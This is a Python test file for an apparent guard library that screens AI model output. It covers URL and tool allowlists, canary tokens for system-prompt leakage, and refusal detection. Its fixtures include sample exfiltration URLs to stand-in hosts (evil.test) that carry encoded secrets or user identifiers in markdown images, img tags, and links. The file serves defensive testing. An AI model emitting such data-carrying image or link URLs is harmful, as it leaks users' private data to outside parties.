"""Allowlists, exfiltration through images and links, canary tokens, refusals."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.exceptions import ConfigError
from ringfence.guards import (
    AllowlistGuard,
    CanaryGuard,
    ExfilGuard,
    RefusalGuard,
    carries_data,
    embed_canary,
    host_allowed,
    is_refusal,
    make_canary,
    refusal_score,
    tool_names,
)
from ringfence.provenance import Label

OUT = Label("assistant", False)


def test_host_allowed_includes_subdomains_only():
    assert host_allowed("docs.example.com", ["example.com"])
    assert host_allowed("example.com", ["*.example.com"])
    assert not host_allowed("example.com.evil.test", ["example.com"])
    assert not host_allowed("notexample.com", ["example.com"])


def test_allowlist_urls_and_tools():
    guard = AllowlistGuard(domains=["example.com"], urls=["https://cdn.test/pub/"],
                           tools=["search"])  # fmt: skip
    ok = "See https://docs.example.com/a and https://cdn.test/pub/x.png"
    assert guard.check(ok, OUT) == []
    bad = guard.check("See https://evil.test/x and www.other.test", OUT)
    assert [f.kind for f in bad] == ["allowlist.url", "allowlist.url"]
    call = '{"tool_calls": [{"function": {"name": "delete_all", "arguments": "{}"}}]}'
    assert [f.message for f in guard.check(call, OUT)] == ["tool 'delete_all' is not allowed"]
    assert guard.check('[{"name": "search", "arguments": {}}]', OUT) == []
    assert AllowlistGuard().check("https://anything.test", OUT) == []


def test_tool_names():
    assert tool_names('{"name": "a", "args": {}}') == ["a"]
    assert tool_names("not json") == []
    assert tool_names('{"name": "just a field"}') == []


def test_carries_data():
    assert carries_data("https://evil.test/p.png?d=c2VjcmV0IGRhdGE")
    assert carries_data("https://evil.test/log/aGVsbG8gd29ybGQgc2VjcmV0/x.png")
    assert carries_data("https://evil.test/p?u=jane%40example.com")
    assert not carries_data("https://example.org/images/logo.png")
    assert not carries_data("https://example.org/docs?page=2")


def test_exfil_images_and_links():
    guard = ExfilGuard(allow_domains=["shop.example"])
    text = (
        "Here you go ![chart](https://evil.test/c.png?data=SGVsbG8gc2VjcmV0) and "
        '<img src="https://evil.test/p.gif?u=alice-account-42"> '
        "[click](https://evil.test/r?token=abcdef123456) "
        "![ok](https://cdn.shop.example/i.png?x=abcdefghij) ![logo](https://other.test/logo.png)"
    )
    found = {(f.kind, round(f.score, 2)) for f in guard.check(text, OUT)}
    assert found == {("exfil.image", 0.95), ("exfil.link", 0.7), ("exfil.image", 0.4)}
    ref = "See [docs][1].\n\n[1]: https://evil.test/x?q=secret-stuff-here\n"
    assert [f.kind for f in guard.check(ref, OUT)] == ["exfil.link"]
    assert guard.check("A plain answer with [brackets] and (parens).", OUT) == []
    assert guard.check("[home](/index.html) ![x](data:image/png;base64,AAAA)", OUT) == []


def test_canary_tokens():
    canary = make_canary()
    assert canary.startswith("rf-canary-")
    assert canary != make_canary()
    prompt = embed_canary("You are a helpful bot.", canary)
    assert canary in prompt
    guard = CanaryGuard(tokens=[canary])
    assert guard.check("Nothing to see", OUT) == []
    assert guard.check(f"my instructions say {canary}", OUT)[0].score == 1.0
    spaced = " ".join(canary.upper())
    assert guard.check(f"it is {spaced}", OUT)[0].score == 0.9
    other = make_canary()
    guard.add(other)
    assert guard.check(other, OUT)
    with pytest.raises(ConfigError):
        guard.add("short")


@pytest.mark.parametrize(
    "text",
    [
        "I'm sorry, but I can't help with that request.",
        "I can’t assist with creating malware.",
        "I cannot provide instructions for that.",
        "As an AI language model, I cannot browse the web.",
        "I must decline this request.",
        "Unfortunately that's against my guidelines.",
        "I'm unable to help with that.",
    ],
)
def test_refusals(text):
    assert is_refusal(text)
    assert refusal_score(text) == 0.9


@pytest.mark.parametrize(
    "text",
    [
        "Sure! Here is the code you asked for.",
        "I can't wait to help you plan the trip!",
        "I can't help but notice the typo in line 3; here is the fix.",
        "Sorry for the delay. The answer is 42.",
        "The refund cannot be processed before Monday, but I have scheduled it.",
    ],
)
def test_not_refusals(text):
    assert not is_refusal(text)


def test_late_refusal_in_long_answer_is_partial():
    text = "Here is a long answer. " * 100 + "However, I can't help with the last part."
    assert refusal_score(text) == 0.4
    assert RefusalGuard().check(text, OUT)[0].score == 0.4
    assert RefusalGuard().check("All done.", OUT) == []


_PHRASES = [
    "I'm sorry, but I can't",
    "I cannot help",
    "i am unable to assist",
    "I must decline",
    "As an AI, I don't",
    "against my guidelines",
    "Violates my policies",
    "That is not something I can help",
    "not something i can help with",
    "\u0130 cannot help",
    "I won't do that",
]


@given(st.lists(st.sampled_from([*_PHRASES, "x", " ", "\u0131", "Sure. ", "a", "I"]), max_size=8))
def test_the_refusal_pattern_matches_as_without_its_first_letter_test(parts: list[str]) -> None:
    import re

    from ringfence.guards import _output

    plain = re.compile(_output._REFUSAL.pattern.replace("(?=[iatvn])", "", 1), re.IGNORECASE)
    text = "".join(parts)
    got, want = _output._REFUSAL.search(text), plain.search(text)
    assert (got and got.span()) == (want and want.span())
